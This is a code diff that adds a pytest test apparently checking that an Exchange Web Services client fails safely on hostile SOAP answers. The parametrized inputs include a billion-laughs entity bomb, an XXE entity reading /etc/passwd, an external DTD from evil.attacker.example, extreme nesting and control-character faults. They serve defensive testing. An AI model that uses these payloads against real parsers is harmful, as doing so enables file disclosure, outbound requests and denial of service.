@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gc
 import logging
+import time
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -174,3 +175,43 @@ async def test_ntlm_over_a_connection_that_ends_in_between_is_told_and_not_tried
         seen = await checked(world)
     assert failed(seen).code == "ews.connection-ended"
     assert server.proofs == []
+
+
+SOAP = b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
+BOMB = (
+    b'<!DOCTYPE a [<!ENTITY a "'
+    + b"x" * 1000
+    + b'">'
+    + b"".join(b'<!ENTITY %c "%s">' % (98 + each, b"&%c;" % (97 + each) * 30) for each in range(8))
+    + b"]>"
+)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        SOAP,
+        SOAP + b"<s:Body/></s:Envelope>",
+        BOMB + SOAP + b"<s:Body>&i;</s:Body></s:Envelope>",
+        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + SOAP + b"<s:Body>&b;</s:Body></s:Envelope>",
+        b'<!DOCTYPE a SYSTEM "https://evil.attacker.example/a.dtd">' + SOAP + b"<s:Body/></s:Envelope>",
+        SOAP + b"<s:Body>" + b"<a>" * 20000 + b"</a>" * 20000 + b"</s:Body></s:Envelope>",
+        SOAP + b"<s:Body><m:GetFolderResponse xmlns:m='x'/></s:Body></s:Envelope>",
+        SOAP + b"\xff\xfe\x00</s:Envelope>",
+        fault("ErrorX\u202eY", "a" * 100_000).body,
+        fault("__class__", "no").body,
+        fault("Error\n\n[31m", "no").body,
+    ],
+)
+async def test_an_answer_that_is_made_to_harm_ends_in_a_failure_of_ours(
+    monkeypatch: pytest.MonkeyPatch, body: bytes
+) -> None:
+    server = SmallExchange(offers=("Basic",), instead=lambda request: Answer(body))
+    async with exchange_world(monkeypatch, server, (EVIL, "/")) as world:
+        began = time.monotonic()
+        seen = await checked(world, until=Until.DELIVERY)
+        assert time.monotonic() - began < 5
+        code = failed(seen).code
+        assert code.startswith("ews.") and code.isascii() and code.replace(".", "").replace("-", "").isalnum()
+        assert len(failed(seen).detail) <= 1000 and "root:" not in str(seen)
+        assert {request.host for request in world.web.requests} == {HOST}
